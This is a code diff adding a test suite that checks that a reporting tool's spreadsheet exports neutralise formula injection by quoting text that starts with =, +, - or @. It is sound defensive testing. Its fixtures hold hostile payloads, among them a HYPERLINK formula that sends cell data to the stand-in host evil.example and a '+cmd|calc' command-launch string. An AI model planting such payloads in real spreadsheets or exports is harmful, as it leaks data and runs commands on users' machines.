@@ -221,3 +221,54 @@ describe('private values', () => {
     }
   });
 });
+
+describe('formula injection', () => {
+  // A label, a factor and a hypothesis named like formulas, as a client or an analyst could type them.
+  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+  const base = reportFixture('en');
+  const first = base.entries[0]!;
+  const snapshot: ReportSnapshot = {
+    ...base,
+    entries: [
+      {
+        ...first,
+        label: hostile,
+        emissionFactors: first.emissionFactors.map((factor) => ({ ...factor, name: '@SUM(1+1)' })),
+        hypotheses: [{ uuid: '00000000-0000-4000-8000-000000000999', name: '+cmd|calc', clientNameEn: null, value: -2, unit: 'km', source: '-source' }],
+      },
+      ...base.entries.slice(1),
+    ],
+  };
+
+  const textCells = (workbook: XLSX.WorkBook) => workbook.SheetNames.flatMap((name) => rows(workbook, name).flat()).filter((cell): cell is string => typeof cell === 'string');
+
+  it('writes every text starting with =, +, - or @ as quoted text, in every report workbook', () => {
+    const workbooks = [
+      read(resultsWorkbook({ snapshot, reportName: '-FY', assetName: '@asset', language: 'en' })),
+      read(factorsWorkbook({ snapshot, language: 'en' })),
+      read(activityDataWorkbook({ snapshot, language: 'en', audit: true })),
+    ];
+    for (const workbook of workbooks) {
+      const texts = textCells(workbook);
+      expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
+      // No cell is stored as a formula either.
+      for (const name of workbook.SheetNames) {
+        const sheet = workbook.Sheets[name]!;
+        expect(Object.keys(sheet).filter((address) => !address.startsWith('!') && (sheet[address] as XLSX.CellObject).f !== undefined)).toEqual([]);
+      }
+    }
+    const [results, factors, activity] = workbooks.map(textCells);
+    expect(results).toContain(`'${hostile}`);
+    expect(results).toContain("'-FY");
+    expect(results).toContain("'@asset");
+    expect(factors).toContain("'@SUM(1+1)");
+    expect(factors).toContain("'+cmd|calc");
+    expect(activity).toContain(`'${hostile}`);
+  });
+
+  it('keeps negative numbers as numbers', () => {
+    const factors = read(factorsWorkbook({ snapshot, language: 'en' }));
+    const hypotheses = rows(factors, factors.SheetNames[1]!);
+    expect(hypotheses.find((row) => row[0] === "'+cmd|calc")?.[1]).toBe(-2);
+  });
+});
